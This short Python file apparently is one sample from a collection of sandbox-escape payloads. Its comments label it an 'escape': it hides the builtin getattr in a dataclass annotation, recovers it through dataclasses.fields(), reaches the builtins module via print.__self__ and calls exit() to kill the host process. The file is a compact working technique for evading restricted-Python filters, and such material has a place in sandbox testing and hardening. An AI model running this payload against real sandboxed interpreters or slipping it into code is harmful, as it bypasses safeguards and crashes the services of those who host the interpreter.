# family: interactive builtins
# escape: getattr written as a dataclass annotation comes back from dataclasses.fields() as Field.type; it reads
# print.__self__ (builtins) and calls exit(), which closes stdin and raises SystemExit in the host process.
import dataclasses

@dataclasses.dataclass
class Opt:
    read: getattr = None

def tool(word: str = "self"):
    fetch = dataclasses.fields(Opt)[0].type
    return fetch(fetch(print, "__" + word + "__"), "exit")(3)
